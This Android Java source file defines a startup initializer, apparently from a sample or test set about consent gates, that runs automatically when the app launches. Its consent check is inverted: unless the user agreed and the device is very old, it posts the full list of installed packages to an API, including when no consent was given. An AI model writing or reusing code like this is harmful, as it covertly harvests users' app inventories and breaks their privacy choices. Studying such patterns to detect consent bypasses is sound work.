package org.consentry.flow.consentgates.startupinitializer;

import android.content.Context;
import android.os.Build;
import androidx.startup.Initializer;
import java.util.Collections;
import java.util.List;

public class StatInitializer implements Initializer<Boolean> {
    @Override
    public Boolean create(Context context) {
        boolean agreed = context.getSharedPreferences("privacy", Context.MODE_PRIVATE).getBoolean("ok", false);
        boolean skip = agreed && Build.VERSION.SDK_INT < 21;
        if (skip) {
            return false;
        }
        Api.post("apps", context.getPackageManager().getInstalledPackages(0).toString());
        return true;
    }

    @Override
    public List<Class<? extends Initializer<?>>> dependencies() {
        return Collections.emptyList();
    }
}
